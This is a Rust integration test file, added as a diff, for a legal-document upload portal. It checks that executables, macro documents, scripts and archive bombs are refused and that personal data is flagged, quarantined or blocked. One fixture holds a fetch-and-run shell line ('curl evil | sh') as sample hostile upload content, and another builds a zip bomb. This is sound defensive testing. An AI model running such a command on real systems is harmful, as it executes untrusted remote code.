@@ -1,0 +1,197 @@
+//! Upload safety through the real server: types refused by content, archive bombs, and the
+//! three personal-data actions (flag, quarantine with release, block). Malware scanning with
+//! a real clamd is in `malware.rs`.
+
+use courier_scan::fixtures::{Entry, docx, docx_with, pdf, zip};
+
+use crate::harness::{Env, client, upload};
+
+const SSN_LETTER: &[u8] = b"Dear counsel,\nthe claimant's social security number is 123-45-6789.\nRegards\n";
+
+fn problem_detail(body: &serde_json::Value) -> String {
+    body["detail"].as_str().unwrap_or_default().to_owned()
+}
+
+fn refused_events(env: &Env) -> Vec<serde_json::Value> {
+    env.audit_events().into_iter().filter(|e| e["action"] == "document.refused").collect()
+}
+
+#[tokio::test]
+async fn disallowed_types_get_415_with_a_reason_and_leave_nothing() {
+    let env = Env::start();
+    let (_, token) = env.create_portal(&[]);
+    let exe = [b"MZ\x90\0\x03\0\0\0".as_slice(), &[0u8; 512]].concat();
+    let macro_docx = docx_with(&["Please enable content".to_owned()], &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]);
+    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("invoice.pdf", exe.clone(), "program"),
+        ("setup.zip", zip(&[("readme.txt", b"hi", Entry::Deflated), ("setup.exe", &exe, Entry::Streamed)]), "program"),
+        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), "script"),
+        ("contract.pdf", b"plain text pretending to be a PDF".to_vec(), "ends in .pdf"),
+        ("letter.docx", macro_docx, "macros"),
+        ("letter.docm", docx(&["x".to_owned()]), "macros"),
+        ("data.bin", vec![0, 1, 2, 3, 0xff, 0xfe, 0, 0], "cannot be uploaded"),
+    ];
+    for (name, data, reason) in &cases {
+        let resp = upload(env.base(), &token, &[(name, data)]).await;
+        assert_eq!(resp.status(), 415, "{name}");
+        let body: serde_json::Value = resp.json().await.unwrap();
+        assert!(problem_detail(&body).contains(reason), "{name}: {body}");
+    }
+    // All or nothing: a good file next to a refused one is not kept either.
+    let resp = upload(env.base(), &token, &[("fine.txt", b"fine"), ("evil.exe", &exe)]).await;
+    assert_eq!(resp.status(), 415);
+    assert!(env.docs(None).is_empty());
+    assert!(env.blob_files().is_empty(), "{:?}", env.blob_files());
+    let refused = refused_events(&env);
+    assert_eq!(refused.len(), cases.len() + 1);
+    assert!(refused.iter().all(|e| e["details"]["reason"] == "type"), "{refused:?}");
+    // The audit trail never carries the file's name.
+    let trail = serde_json::to_string(&env.audit_events()).unwrap();
+    assert!(!trail.contains("invoice.pdf") && !trail.contains("evil.exe"));
+    assert!(env.audit_ok());
+}
+
+#[tokio::test]
+async fn a_portal_narrows_the_allowlist_and_bad_type_names_are_refused() {
+    let env = Env::start();
+    let (portal, token) = env.create_portal(&["--allow-types", "pdf"]);
+    let shown = env.cli_json(&["portal", "show", &portal, "--json"], None);
+    assert_eq!(shown["allowed_types"], serde_json::json!(["pdf"]));
+    let resp = upload(env.base(), &token, &[("note.txt", b"hello")]).await;
+    assert_eq!(resp.status(), 415);
+    let body: serde_json::Value = resp.json().await.unwrap();
+    assert!(problem_detail(&body).contains("accepted types: PDF"), "{body}");
+    let brief = pdf(&[vec!["Brief, page one".to_owned()]]);
+    assert_eq!(upload(env.base(), &token, &[("brief.pdf", &brief)]).await.status(), 201);
+    let (ok, _, err) = env.cli(&["portal", "create", "--label", "L", "--allow-types", "pdf,exe"], None);
+    assert!(!ok && err.contains("unknown file type \"exe\""), "{err}");
+}
+
+#[tokio::test]
+async fn an_archive_bomb_is_refused_without_being_expanded() {
+    let env = Env::start();
+    let (_, token) = env.create_portal(&[]);
+    // 256 MiB of one letter in a ~250 KiB archive, streamed (no sizes in the header).
+    let bomb = zip(&[("report.txt", &vec![b'a'; 256 << 20], Entry::Streamed)]);
+    assert!(bomb.len() < 1 << 20);
+    let resp = upload(env.base(), &token, &[("report.zip", &bomb)]).await;
+    assert_eq!(resp.status(), 422);
+    let body: serde_json::Value = resp.json().await.unwrap();
+    assert!(problem_detail(&body).contains("archive bombs"), "{body}");
+    assert!(env.docs(None).is_empty());
+    assert!(env.blob_files().is_empty());
+    assert_eq!(refused_events(&env)[0]["details"]["reason"], "content");
+}
+
+#[tokio::test]
+async fn personal_data_is_flagged_quarantined_or_blocked_as_the_portal_says() {
+    let env = Env::start();
+    let (flag_portal, flag) = env.create_portal(&[]);
+    let (quarantine_portal, quarantine) = env.create_portal(&["--dlp-action", "quarantine"]);
+    let (_, block) = env.create_portal(&["--dlp-action", "block"]);
+
+    // Flag (the default): accepted, marked, downloadable.
+    assert_eq!(upload(env.base(), &flag, &[("letter.txt", SSN_LETTER)]).await.status(), 201);
+    let doc = env.docs(Some(&flag_portal)).remove(0);
+    assert_eq!(doc["scan"]["status"], "flagged", "{doc}");
+    assert_eq!(doc["scan"]["malware"], serde_json::Value::Null);
+    assert_eq!(doc["scan"]["findings"][0]["kind"], "ssn");
+    assert_eq!(doc["scan"]["findings"][0]["count"], 1);
+    let offset = SSN_LETTER.windows(11).position(|w| w == b"123-45-6789").unwrap();
+    assert_eq!(doc["scan"]["findings"][0]["locations"][0]["offset"], offset);
+    let out = env.dir.path().join("flagged.txt");
+    assert!(env.cli(&["doc", "get", doc["id"].as_str().unwrap(), "--output", out.to_str().unwrap()], None).0);
+
+    // Quarantine: accepted, held from every download until released with a reason.
+    let claim = docx(&["Claim form".to_owned(), "Card on file: 4111 1111 1111 1111".to_owned()]);
+    assert_eq!(upload(env.base(), &quarantine, &[("claim.docx", &claim)]).await.status(), 201);
+    let held = env.docs(Some(&quarantine_portal)).remove(0);
+    let id = held["id"].as_str().unwrap().to_owned();
+    assert_eq!(held["scan"]["status"], "quarantined");
+    assert_eq!(held["scan"]["held"], true);
+    assert_eq!(held["scan"]["findings"][0]["kind"], "payment_card");
+    assert_eq!(held["scan"]["findings"][0]["locations"][0]["part"], "word/document.xml");
+    let out = env.dir.path().join("held.docx");
+    let (ok, _, err) = env.cli(&["doc", "get", &id, "--output", out.to_str().unwrap()], None);
+    assert!(!ok && err.contains("held"), "{err}");
+    assert!(!out.exists());
+    let (ok, _, err) = env.cli(&["doc", "release", &id, "--reason", " "], None);
+    assert!(!ok && err.contains("reason"), "{err}");
+    let released =
+        env.cli_json(&["doc", "release", &id, "--reason", "client confirmed the card is cancelled", "--json"], None);
+    assert_eq!(released["released"], true);
+    let after = env.docs(Some(&quarantine_portal)).remove(0);
+    assert_eq!((after["scan"]["status"].as_str(), after["scan"]["held"].as_bool()), (Some("flagged"), Some(false)));
+    assert!(after["scan"]["released_at"].is_string());
+    assert!(env.cli(&["doc", "get", &id, "--output", out.to_str().unwrap()], None).0);
+    assert_eq!(std::fs::read(&out).unwrap(), claim);
+    let (ok, _, err) = env.cli(&["doc", "release", &id, "--reason", "again"], None);
+    assert!(!ok && err.contains("not held"), "{err}");
+
+    // Block: refused, and the client is told which kind of data to redact.
+    let resp = upload(env.base(), &block, &[("letter.txt", SSN_LETTER)]).await;
+    assert_eq!(resp.status(), 422);
+    let body: serde_json::Value = resp.json().await.unwrap();
+    assert!(problem_detail(&body).contains("US social security numbers"), "{body}");
+    // A few e-mail addresses alone do not make a document one of personal data.
+    let resp =
+        upload(env.base(), &block, &[("note.txt", b"Write to jane.doe@example.com or j.smith@example.com")]).await;
+    assert_eq!(resp.status(), 201);
+
+    // No matched value is stored or audited anywhere.
+    let listing = serde_json::to_string(&env.docs(None)).unwrap();
+    let trail = serde_json::to_string(&env.audit_events()).unwrap();
+    for secret in ["123-45-6789", "4111 1111 1111 1111", "4111111111111111"] {
+        assert!(!listing.contains(secret) && !trail.contains(secret), "{secret} leaked");
+    }
+    let release = env.audit_events().into_iter().find(|e| e["action"] == "document.release").expect("release audited");
+    assert_eq!(release["details"]["reason"], "client confirmed the card is cancelled");
+    assert!(env.audit_ok());
+}
+
+#[tokio::test]
+async fn a_held_document_is_not_served_to_staff_either() {
+    let env = Env::start();
+    let (portal, token) = env.create_portal(&["--dlp-action", "quarantine"]);
+    assert_eq!(upload(env.base(), &token, &[("letter.txt", SSN_LETTER)]).await.status(), 201);
+    let id = env.docs(Some(&portal))[0]["id"].as_str().unwrap().to_owned();
+    let c = client();
+    let (csrf, _) = crate::harness::sign_in(&env, &c, "attorney@firm.example", "attorney").await;
+    let resp = c.get(format!("{}/documents/{id}/download", env.base())).send().await.unwrap();
+    assert_eq!(resp.status(), 409);
+    let zip = c.get(format!("{}/portals/{portal}/download.zip", env.base())).send().await.unwrap();
+    assert_eq!(zip.status(), 400, "the only document is held, so there is nothing to download");
+    // The page offers a release form instead of a download link.
+    let page = c.get(format!("{}/portals/{portal}", env.base())).send().await.unwrap().text().await.unwrap();
+    assert!(page.contains(&format!("/documents/{id}/release")) && !page.contains(&format!("/documents/{id}/download")));
+    let resp = c
+        .post(format!("{}/documents/{id}/release", env.base()))
+        .header("Origin", env.base())
+        .form(&[("csrf_token", csrf.as_str()), ("reason", "redacted copy requested")])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 303);
+    let resp = c.get(format!("{}/documents/{id}/download", env.base())).send().await.unwrap();
+    assert_eq!(resp.status(), 200);
+    assert_eq!(resp.bytes().await.unwrap().as_ref(), SSN_LETTER);
+}
+
+#[tokio::test]
+async fn a_paralegal_cannot_release() {
+    let env = Env::start();
+    let (portal, token) = env.create_portal(&["--dlp-action", "quarantine"]);
+    assert_eq!(upload(env.base(), &token, &[("letter.txt", SSN_LETTER)]).await.status(), 201);
+    let id = env.docs(Some(&portal))[0]["id"].as_str().unwrap().to_owned();
+    let c = client();
+    let (csrf, _) = crate::harness::sign_in(&env, &c, "paralegal@firm.example", "paralegal").await;
+    let resp = c
+        .post(format!("{}/documents/{id}/release", env.base()))
+        .header("Origin", env.base())
+        .form(&[("csrf_token", csrf.as_str()), ("reason", "looks fine to me")])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 403);
+    assert_eq!(env.docs(Some(&portal))[0]["scan"]["held"], true);
+}
